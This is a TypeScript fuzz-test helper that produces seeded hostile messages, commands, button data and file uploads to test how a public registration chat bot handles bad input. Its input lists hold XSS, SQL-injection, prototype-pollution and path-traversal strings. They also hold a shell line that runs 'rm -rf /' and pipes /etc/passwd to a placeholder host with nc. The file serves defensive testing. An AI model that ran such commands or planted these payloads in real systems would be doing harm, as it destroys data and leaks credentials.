import type { InboundEvent } from "../../src/core/types.js";

/** A small seeded PRNG (mulberry32): the same hostile messages on every run, so a failure can be replayed. */
export function seeded(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(r: () => number, list: readonly T[]): T => list[Math.floor(r() * list.length)]!;

const SPECIALS = [
  `<b>A&B</b> *_ [x](http://evil) \`code\` ~~s~~ ||spoiler||`,
  `<script>alert(1)</script><img src=x onerror=alert(1)>`,
  `&amp; &lt; &#60; &#x3C; &quot; &nbsp; &`,
  `{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}}}`,
  `[1, 2, {"a": null}]`,
  `'; DROP TABLE submissions; --`,
  `" OR 1=1 --`,
  "$(rm -rf /) `reboot` && cat /etc/passwd | nc evil 1",
  "../../../../etc/passwd",
  "%00%0a%0d%27%22",
  "\\u0000\\n\\r",
  "null",
  "undefined",
  "NaN",
  "-1e309",
  "０３１４４０９０５８",
  "0314409058-000",
  "GT-2026-0000",
  "GT-9999-9999",
  "cmd:thongke",
];
const UNICODE = [
  "😀👍🏽👨‍👩‍👧‍👦🇻🇳",
  "e\u0301\u0301\u0301\u0301 Đăng ky\u0301",
  "Z̴̧̛̖̗̘̙̜̝̞̟̠̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌ͅ͏͓͔͕͖͙͚͐͑͒͗͛",
  "\u202Egnp.exe \u202Bمرحبا بالعالم\u202C שלום",
  "a\u200Bb\u200Cc\u200Dd\u2060e\uFEFF",
  "\u0000\u0001\u0007\u001B[31mred\u001B[0m\u007F",
  "\uD800 lone surrogate \uDFFF",
  "ｇｔｃｌｑｇ　ｌａ　ｇｉ",
];
const COMMANDS = ["start", "dangky", "tracuu", "dulieu", "rut", "lienket", "huy", "ngonngu", "trogiup", "hoso", "thongke", "xuat", "thongbao", "quyen", "khongco", "START", "a".repeat(32)];
const BUTTON_PREFIXES = ["cmd", "lang", "reg", "sub", "lnk", "faq", "form", "adm", "bc", "x", ""];

/** One hostile or odd message, drawn from the categories a public bot meets. */
export function hostileEvent(r: () => number, index: number): InboundEvent {
  const kind = index % 10;
  const text = () => {
    switch (Math.floor(r() * 6)) {
      case 0:
        return pick(r, SPECIALS);
      case 1:
        return pick(r, UNICODE);
      case 2:
        return `${pick(r, SPECIALS)} ${pick(r, UNICODE)} ${pick(r, SPECIALS)}`;
      case 3:
        return String.fromCharCode(...Array.from({ length: 1 + Math.floor(r() * 40) }, () => Math.floor(r() * 0xffff)));
      case 4:
        return "dang ky giai thuong " + pick(r, SPECIALS);
      default:
        return pick(r, ["", " ", "\n\n\n", "?", "1", "99", "0", "-5", "1,5 ty", "15/13/2019", "31/02/2020", "x".repeat(5000)]);
    }
  };
  switch (kind) {
    case 0:
      // Very long text: 100 KB once in a while, a few KB otherwise.
      return { kind: "text", text: index % 500 === 0 ? "Đăng ký ".repeat(12_800) : text().repeat(1 + Math.floor(r() * 20)) };
    case 1:
    case 2:
    case 3:
      return { kind: "text", text: text() };
    case 4:
      return { kind: "command", name: pick(r, COMMANDS).toLowerCase().slice(0, 32), args: text() };
    case 5:
    case 6: {
      const prefix = pick(r, BUTTON_PREFIXES);
      const rest = r() < 0.5 ? text().slice(0, 80) : pick(r, ["ok:AAAAAAAAAAAA", "edit:taxCode", "../../x", "9999", "dangky", "thongke", "vi", "en", "xx"]);
      return { kind: "button", data: `${prefix}:${rest}`.slice(0, 200) };
    }
    case 7:
      return {
        kind: "file",
        file: { channel: "telegram", ref: `BQ${Math.floor(r() * 1e9)}`, name: pick(r, ["../../etc/passwd", "<script>.pdf", "a\u202Egnp.exe", "😀.docx", "", "x".repeat(400), "don dang ky.pdf"]), size: Math.floor(r() * 1e8), mime: pick(r, [null, "application/pdf", "text/html", "application/x-msdownload"]) },
        caption: text().slice(0, 1000),
      };
    case 8:
      return { kind: "unsupported", what: pick(r, ["sticker", "voice", "location", "poll"]) };
    default:
      return { kind: "text", text: pick(r, ["dang ky", "/dangky gtclqg", "dong y", "Cong ty <b>A&B</b>", "0314409058", "huy", "co, huy"]) };
  }
}
